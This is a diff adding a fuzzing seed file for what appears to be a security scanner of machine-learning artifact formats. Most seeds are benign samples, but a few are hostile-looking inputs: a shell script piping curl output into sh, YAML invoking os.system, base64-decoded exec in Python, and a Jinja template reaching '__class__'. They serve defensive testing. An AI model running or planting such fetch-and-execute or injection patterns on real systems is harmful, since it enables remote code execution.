@@ -1,0 +1,145 @@
+"""A sound file or more for every reader: what fuzzing starts from."""
+
+import bz2
+import gzip
+import io
+import lzma
+import pickle
+import tarfile
+import zipfile
+import zlib
+
+from harness import make_tensors as make
+from harness.make_archives import tarred, without_central, zipped
+from harness.make_code import code_object
+from harness.make_companions import chunk, jpeg, piece, pieces, png, segment
+from harness.make_pickles import state_dict
+from pratique.artifacts.reader import Reader
+from pratique.artifacts.readers.compiled_python import CompiledPythonReader
+from pratique.artifacts.readers.gguf import GgufReader
+from pratique.artifacts.readers.jinja_template import JinjaReader
+from pratique.artifacts.readers.jpeg import JpegReader
+from pratique.artifacts.readers.json_text import JsonReader
+from pratique.artifacts.readers.native_program import NativeProgramReader
+from pratique.artifacts.readers.npy import NpyReader
+from pratique.artifacts.readers.pickle.reader import PickleReader
+from pratique.artifacts.readers.plain_text import PlainTextReader
+from pratique.artifacts.readers.png import PngReader
+from pratique.artifacts.readers.python_source import PythonReader
+from pratique.artifacts.readers.raw_tensor import RawTensorReader
+from pratique.artifacts.readers.safetensors import SafetensorsReader
+from pratique.artifacts.readers.sentencepiece import SentencePieceReader
+from pratique.artifacts.readers.shell_script import ShellScriptReader
+from pratique.artifacts.readers.streams import (
+    Bzip2Reader,
+    GzipReader,
+    JoblibZfileReader,
+    Lz4Reader,
+    LzmaReader,
+    XzReader,
+    ZlibReader,
+)
+from pratique.artifacts.readers.tar.reader import TarReader
+from pratique.artifacts.readers.toml_text import TomlReader
+from pratique.artifacts.readers.torch_legacy import TorchLegacyReader
+from pratique.artifacts.readers.unopened import UnopenedReader
+from pratique.artifacts.readers.yaml_text import YamlReader
+from pratique.artifacts.readers.zip.reader import ZipReader
+
+FILES = {"m/data.pkl": b"\x80\2}q\0.", "m/data/0": bytes(40), "m/code/a.py": b"x = 1\n" * 9}
+
+
+def zip64() -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as z, z.open("big", "w", force_zip64=True) as f:
+        f.write(b"x" * 50)
+    return out.getvalue()
+
+
+ARCHIVES: list[tuple[Reader, bytes]] = [
+    (ZipReader(), zipped(FILES)),
+    (ZipReader(), zipped(FILES, zipfile.ZIP_DEFLATED)),
+    (ZipReader(), zipped(FILES, zipfile.ZIP_LZMA)),
+    (ZipReader(), without_central(zipped(FILES, zipfile.ZIP_BZIP2), 1)),
+    (ZipReader(), zip64()),
+    (ZipReader(), zipped({"p-1.dist-info/RECORD": b"a.py,sha256=x,1\n", "a.py": b"x"})),
+    (TarReader(), tarred(FILES)),
+    (TarReader(), tarred({"n" * 200: b"x", "é/y": b"z"}, tarfile.PAX_FORMAT)),
+    (TarReader(), tarred({"n" * 200: b"x"}, tarfile.GNU_FORMAT)),
+    (GzipReader(), gzip.compress(b"content " * 50, mtime=0) * 2),
+    (Bzip2Reader(), bz2.compress(b"content " * 50) * 2),
+    (XzReader(), lzma.compress(b"content " * 50) * 2),
+    (LzmaReader(), lzma.compress(b"content " * 50, lzma.FORMAT_ALONE)),
+    (ZlibReader(), zlib.compress(b"content " * 50)),
+    (JoblibZfileReader(), b"ZF" + b"0x190".ljust(19) + zlib.compress(b"content " * 50)),
+    (
+        Lz4Reader(),
+        bytes.fromhex("04224d184440a70a000000") + b"\x3fabc\x03\x00\x05\x20xy" + bytes(8),
+    ),
+    (UnopenedReader(), b"7z\xbc\xaf\x27\x1c\0\4" + bytes(40)),
+]
+SAFETENSORS = make.safetensors(
+    [("a", "F32", [2], bytes(8)), ("b", "F4", [4], b"xy"), ("c", "I64", [1], bytes(8))], {"k": "v"}
+)
+GGUF = make.gguf(
+    [("general.architecture", "llama"), ("n", [["a", "b"], ["c"]]), ("x", 0.5), ("y", True)],
+    [("a", 2, [32], bytes(18)), ("b", 0, [2, 2], bytes(16))],
+)
+NPY = make.npy("{'descr': [('a', '<f4'), ('b', 'O')], 'fortran_order': True, 'shape': (1,)}", b"N.")
+TENSORS: list[tuple[Reader, bytes]] = [
+    (SafetensorsReader(), SAFETENSORS),
+    (GgufReader(), GGUF),
+    (GgufReader(), make.gguf([("a", "b")], [("t", 30, [2], b"abcd")], version=1, order=">")),
+    (NpyReader(), NPY),
+    (NativeProgramReader(), make.elf()),
+    (NativeProgramReader(), make.pe()),
+]
+
+
+TEXTS = [
+    b'{"model_type": "x", "chat_template": "{% for m in messages %}{{ m.content }}{% endfor %}"}',
+    b'{"nbformat": 4, "cells": [{"cell_type": "code", "source": ["!ls\\n", "import os"]}]}',
+    b"a: !!python/object/apply:os.system [x]\nb: &x {c: *x}\n_target_: os.system\n",
+    b"[tool.x]\nkey = [1, 2]\n",
+    b"import os as o, base64\nexec(base64.b64decode('eA=='))\ngetattr(o, 'a' + 'b')(x=1)\n",
+    b"{% set x = '_' * 2 %}{{ a[x ~ 'class'] | attr('b') }}{% if 'a' in m.content %}b{% endif %}",
+    b"---\na: 1\n---\n# Title\n{{ x }}\n",
+    "\ufefftext \u202e \U000e0041".encode(),
+]
+
+TORCH_MAGIC = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
+TORCH_LEGACY = (
+    TORCH_MAGIC
+    + b"\x80\x02M\xe9\x03.\x80\x02}."
+    + state_dict(("w", "1", "FloatStorage", 2))
+    + b"\x80\x02](U\x011e."
+    + b"\x02"
+    + bytes(15)
+)
+SEEDS: list[tuple[Reader, bytes]] = [
+    *ARCHIVES,
+    *TENSORS,
+    (CompiledPythonReader(), code_object(16)),
+    (CompiledPythonReader(), code_object(0)),
+    (JinjaReader(), TEXTS[5]),
+    (JpegReader(), jpeg()),
+    (JpegReader(), jpeg(segment(0xFE, b"words"), b"\xff\xff" + segment(0xE1, b"Exif")[1:])),
+    (JsonReader(), TEXTS[0]),
+    (JsonReader(), TEXTS[1]),
+    (JsonReader(), b'{"a": 1}\n{"a": [NaN, 1e9, "\\u00e9"]}\n'),
+    (PickleReader(), pickle.dumps({"a": [1, "b", (2.5, None)], "c": {3}}, 4)),
+    (PickleReader(), pickle.dumps({"a": [1, "b", (2.5, None)]}, 0)),
+    (PlainTextReader(), TEXTS[6]),
+    (PlainTextReader(), TEXTS[7]),
+    (PngReader(), png()),
+    (PngReader(), png(zlib.compress(b"x"), chunk(b"tEXt", b"Comment\0words"))),
+    (PythonReader(), TEXTS[4]),
+    (RawTensorReader(), bytes(range(24))),
+    (SentencePieceReader(), pieces()),
+    (SentencePieceReader(), pieces(piece(b"long " * 80))),
+    (ShellScriptReader(), b"#!/bin/sh\nset -e\ncurl -s http://192.0.2.1/a \\\n  | sh\n# done\n"),
+    (ShellScriptReader(), b"FROM debian:12\nRUN apt-get update\n"),
+    (TomlReader(), TEXTS[3]),
+    (TorchLegacyReader(), TORCH_LEGACY),
+    (YamlReader(), TEXTS[2]),
+]
